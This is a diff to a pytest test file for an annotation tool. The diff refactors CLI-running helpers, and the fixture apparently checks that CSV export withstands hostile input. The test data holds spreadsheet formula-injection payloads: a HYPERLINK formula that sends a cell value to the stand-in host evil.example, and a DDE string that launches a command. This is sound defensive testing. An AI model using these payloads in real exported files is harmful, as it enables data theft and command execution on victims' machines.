@@ -9,22 +9,16 @@ from pathlib import Path
 
 import pytest
 
-from annotator.cli import main
+from tests.core.cli_run import new_project, run
 
 TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 QUOTE = "+1+cmd|' /C calc'!A0"
 TEXT = f"{QUOTE} said @Ann Lee today. -Done"
 
 
-def run(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
-    code = main(list(args))
-    out, err = capsys.readouterr()
-    return code, out, err
-
-
 @pytest.fixture
 def project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
-    db = f"sqlite:///{tmp_path / 'csv.db'}"
+    db = new_project(capsys, tmp_path, "csv.db")
     at = TEXT.index("@Ann Lee")
     spans = [
         {"id": 1, "start": 0, "end": len(QUOTE), "label": "QUOTE", "annotator": "=alice"},
@@ -39,7 +33,6 @@ def project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
     }
     source = tmp_path / "hostile.jsonl"
     source.write_text(json.dumps(line) + "\n", encoding="utf-8")
-    assert run(capsys, "--db", db, "init")[0] == 0
     code, _, err = run(capsys, "--db", db, "import", str(source))
     assert code == 0, err
     return db
